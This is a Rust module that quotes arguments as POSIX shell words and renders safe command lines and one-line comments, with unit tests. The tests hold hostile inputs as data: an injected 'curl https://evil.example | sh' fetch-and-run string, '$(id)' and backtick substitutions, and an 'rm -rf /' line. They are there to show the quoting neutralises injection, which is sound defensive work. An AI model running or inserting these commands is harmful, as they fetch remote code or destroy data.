//! Shell text: commands people paste into a terminal. Each argument is one POSIX shell
//! word — as is when every character is inert in `sh`, `bash` and `zsh`, else in single
//! quotes — so that pasting a rendered command runs exactly one command with exactly
//! those arguments. Plain arguments stay unquoted, so ordinary commands read as people
//! write them (`kubectl -n shop rollout undo deployment/checkout --to-revision=6`).

use std::borrow::Cow;

/// Characters that mean nothing to a shell anywhere in a word. `=` is left out of the
/// first character (zsh expands `=cmd`); `~`, `#`, globs, quotes, `$`, `` ` ``, `!`,
/// braces, whitespace and everything outside ASCII are quoted.
fn inert(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c)
}

/// Words a shell reads as syntax when they come first.
const RESERVED: [&str; 22] = [
    "!", "{", "}", "[[", "]]", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for",
    "function", "if", "in", "select", "then", "time", "until", "while",
];

/// One argument as a shell word. A NUL cannot be part of an argument (programs receive
/// C strings); it is shown as U+FFFD.
pub fn quote(arg: &str) -> Cow<'_, str> {
    if !arg.is_empty() && !arg.starts_with('=') && arg.chars().all(inert) {
        return Cow::Borrowed(arg);
    }
    let mut quoted = String::with_capacity(arg.len() + 2);
    quoted.push('\'');
    for c in arg.chars() {
        match c {
            // Close the quotes, add an escaped quote, reopen them.
            '\'' => quoted.push_str("'\\''"),
            '\0' => quoted.push('\u{fffd}'),
            c => quoted.push(c),
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

/// A command line: the program and each argument as a shell word, joined by spaces. A
/// program word that would be an assignment (`A=1`) or a reserved word is quoted too.
pub fn render<S: AsRef<str>>(argv: &[S]) -> String {
    argv.iter()
        .enumerate()
        .map(|(i, arg)| {
            let arg = arg.as_ref();
            if i == 0 && (arg.contains('=') || RESERVED.contains(&arg)) {
                Cow::Owned(format!("'{}'", arg.replace('\'', "'\\''")))
            } else {
                quote(arg)
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// A comment line (`# text`) that stays one line whatever `text` holds: control
/// characters, line and paragraph separators become spaces.
pub fn comment(text: &str) -> String {
    let flat: String = text
        .chars()
        .map(|c| {
            if c.is_control() || c == '\u{2028}' || c == '\u{2029}' {
                ' '
            } else {
                c
            }
        })
        .collect();
    format!("# {flat}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_arguments_stay_unquoted() {
        assert_eq!(
            render(&[
                "kubectl",
                "-n",
                "shop",
                "rollout",
                "undo",
                "deployment/checkout",
                "--to-revision=6"
            ]),
            "kubectl -n shop rollout undo deployment/checkout --to-revision=6"
        );
        assert_eq!(
            render(&[
                "gh",
                "workflow",
                "run",
                "cd-rollback.yml",
                "-f",
                "image_tag=v2.2230"
            ]),
            "gh workflow run cd-rollback.yml -f image_tag=v2.2230"
        );
    }

    #[test]
    fn anything_else_is_single_quoted() {
        for (arg, word) in [
            ("", "''"),
            ("a b", "'a b'"),
            (
                "1.5.0; curl https://evil.example | sh",
                "'1.5.0; curl https://evil.example | sh'",
            ),
            ("$(id)", "'$(id)'"),
            ("`id`", "'`id`'"),
            ("it's", "'it'\\''s'"),
            ("a\nb", "'a\nb'"),
            ("~root", "'~root'"),
            ("*", "'*'"),
            ("#x", "'#x'"),
            ("=ls", "'=ls'"),
            ("!x", "'!x'"),
            ("{a,b}", "'{a,b}'"),
            ("\u{2010}\u{2010}x", "'\u{2010}\u{2010}x'"),
            ("a\0b", "'a\u{fffd}b'"),
        ] {
            assert_eq!(quote(arg), word, "{arg:?}");
        }
    }

    #[test]
    fn a_program_word_is_never_an_assignment_or_syntax() {
        assert_eq!(render(&["A=1", "x"]), "'A=1' x");
        assert_eq!(render(&["if", "x"]), "'if' x");
        assert_eq!(render(&["x", "if", "A=1"]), "x if A=1");
    }

    #[test]
    fn a_comment_stays_on_one_line() {
        assert_eq!(
            comment("not shown:\nrm -rf /\r\u{2028}x"),
            "# not shown: rm -rf /  x"
        );
    }
}
